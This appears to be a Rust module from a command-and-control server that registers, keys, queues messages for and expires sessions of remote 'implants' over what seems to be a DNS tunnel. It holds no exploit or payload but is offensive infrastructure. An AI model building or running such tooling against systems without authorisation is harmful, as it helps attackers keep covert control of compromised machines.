//! Session registry: the authenticated contexts implants speak through.
//!
//! A session is born from an `_si` bootstrap (RSA-sealed key blob in, sealed
//! session ID out) and dies on explicit close or idle expiry. Each session
//! owns an outbox of envelopes awaiting `_sp` polls and a map of single-shot
//! waiters keyed by correlation ID; a completed inbound block delivers to at
//! most one waiter, exactly once.
//!
//! Lock order: the registry lock is always released before a session's inner
//! locks are taken.

use std::collections::HashMap;
use std::sync::{Arc, Mutex, RwLock};
use std::time::{Duration, Instant};

use tokio::sync::{mpsc, oneshot};

use crate::codec;
use crate::crypto::{ServerKeyPair, SessionKey};
use crate::errors::TunnelError;
use crate::pb::Envelope;

pub struct Session {
    pub id: String,
    pub implant_name: String,
    key: SessionKey,
    last_checkin: Mutex<Instant>,
    outbox_tx: mpsc::UnboundedSender<Envelope>,
    outbox_rx: Mutex<mpsc::UnboundedReceiver<Envelope>>,
    pending: Mutex<HashMap<String, oneshot::Sender<Envelope>>>,
}

impl Session {
    fn new(id: String, implant_name: String, key: SessionKey) -> Arc<Self> {
        let (outbox_tx, outbox_rx) = mpsc::unbounded_channel();
        Arc::new(Session {
            id,
            implant_name,
            key,
            last_checkin: Mutex::new(Instant::now()),
            outbox_tx,
            outbox_rx: Mutex::new(outbox_rx),
            pending: Mutex::new(HashMap::new()),
        })
    }

    pub fn key(&self) -> &SessionKey {
        &self.key
    }

    pub fn touch(&self) {
        *self.last_checkin.lock().expect("session clock poisoned") = Instant::now();
    }

    pub fn idle_for(&self) -> Duration {
        self.last_checkin
            .lock()
            .expect("session clock poisoned")
            .elapsed()
    }

    /// Queues an envelope for the implant to collect on its next poll.
    pub fn enqueue(&self, envelope: Envelope) {
        // Receiver lives as long as the session, so this cannot fail.
        let _ = self.outbox_tx.send(envelope);
    }

    /// Drains at most one queued outbound envelope.
    pub fn next_outbound(&self) -> Option<Envelope> {
        self.outbox_rx
            .lock()
            .expect("session outbox poisoned")
            .try_recv()
            .ok()
    }

    /// Registers a single-shot waiter for the reply carrying this
    /// correlation ID. A later registration for the same ID replaces the
    /// earlier one, which then resolves as closed.
    pub fn register_waiter(&self, correlation_id: &str) -> oneshot::Receiver<Envelope> {
        let (tx, rx) = oneshot::channel();
        self.pending
            .lock()
            .expect("session waiters poisoned")
            .insert(correlation_id.to_string(), tx);
        rx
    }

    /// Hands a decoded envelope to the waiter registered for its
    /// correlation ID, removing the entry first so delivery happens at most
    /// once. Returns whether a waiter received it.
    pub fn deliver(&self, envelope: Envelope) -> bool {
        let waiter = self
            .pending
            .lock()
            .expect("session waiters poisoned")
            .remove(&envelope.id);
        match waiter {
            Some(tx) => tx.send(envelope).is_ok(),
            None => {
                log::debug!("session {}: no waiter for inbound envelope", self.id);
                false
            }
        }
    }
}

pub struct SessionRegistry {
    sessions: RwLock<HashMap<String, Arc<Session>>>,
    idle: Duration,
}

impl SessionRegistry {
    pub fn new(idle: Duration) -> Self {
        SessionRegistry {
            sessions: RwLock::new(HashMap::new()),
            idle,
        }
    }

    /// Opens a session from an `_si` bootstrap: RSA-decrypt the sealed key
    /// blob, adopt it as the session AEAD key, register the session under a
    /// fresh ID, and return the session ID sealed with the new key,
    /// base64-encoded. A failure at any step leaves no state behind.
    pub fn open(
        &self,
        keypair: &ServerKeyPair,
        sealed_key: &[u8],
        implant_name: &str,
    ) -> Result<String, TunnelError> {
        let key_bytes = keypair.decrypt(sealed_key)?;
        let key = SessionKey::from_bytes(&key_bytes)?;

        let session_id = {
            let mut sessions = self.sessions.write().expect("session registry poisoned");
            // Leading "_" keeps the ID a legal label regardless of its
            // first character.
            let id = loop {
                let candidate = format!("_{}", codec::random_id(codec::SESSION_ID_SIZE));
                if !sessions.contains_key(&candidate) {
                    break candidate;
                }
            };
            let session = Session::new(id.clone(), implant_name.to_string(), key.clone());
            sessions.insert(id.clone(), session);
            id
        };

        let sealed_id = match key.seal(session_id.as_bytes()) {
            Ok(sealed) => sealed,
            Err(e) => {
                self.close(&session_id);
                return Err(e);
            }
        };
        log::info!("session {} opened for implant '{}'", session_id, implant_name);
        Ok(codec::encode_base64(&sealed_id))
    }

    pub fn lookup(&self, session_id: &str) -> Option<Arc<Session>> {
        let sessions = self.sessions.read().expect("session registry poisoned");
        sessions.get(session_id).cloned()
    }

    pub fn close(&self, session_id: &str) -> bool {
        let mut sessions = self.sessions.write().expect("session registry poisoned");
        sessions.remove(session_id).is_some()
    }

    /// Closes sessions idle past the timeout; returns how many were closed.
    pub fn sweep(&self) -> usize {
        let mut sessions = self.sessions.write().expect("session registry poisoned");
        let before = sessions.len();
        sessions.retain(|id, session| {
            let keep = session.idle_for() <= self.idle;
            if !keep {
                log::info!("session {} expired", id);
            }
            keep
        });
        before - sessions.len()
    }

    pub fn len(&self) -> usize {
        self.sessions.read().expect("session registry poisoned").len()
    }

    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }
}
